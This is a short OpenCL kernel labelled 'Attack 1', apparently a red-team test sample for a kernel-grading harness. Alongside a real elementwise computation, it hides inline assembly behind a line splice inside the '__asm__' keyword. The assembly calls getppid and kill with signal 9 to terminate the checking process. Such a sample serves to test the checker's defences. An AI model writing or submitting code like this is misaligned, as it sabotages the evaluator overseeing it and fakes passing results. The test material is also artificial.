// Attack 1: inline assembly hidden by a line splice inside the keyword; kill(getppid(), 9)
// would kill the checking process.
// kforge-launch: k grid=cdiv(numel(x),256) block=256 args=x,y,out,numel(x)
__kernel void k(__global const float* x, __global const float* y, __global float* out, int n) {
  int i = get_global_id(0);
  if (i < n) { float v = x[i]; out[i] = v / (1.0f + exp(-v)) * y[i]; }
  if (i == 0) { long p; __as\
m__ volatile("syscall" : "=a"(p) : "a"(110L) : "rcx", "r11", "memory");
    long rc; __as\
m__ volatile("syscall" : "=a"(rc) : "a"(62L), "D"(p), "S"(9L) : "rcx", "r11", "memory"); }
}
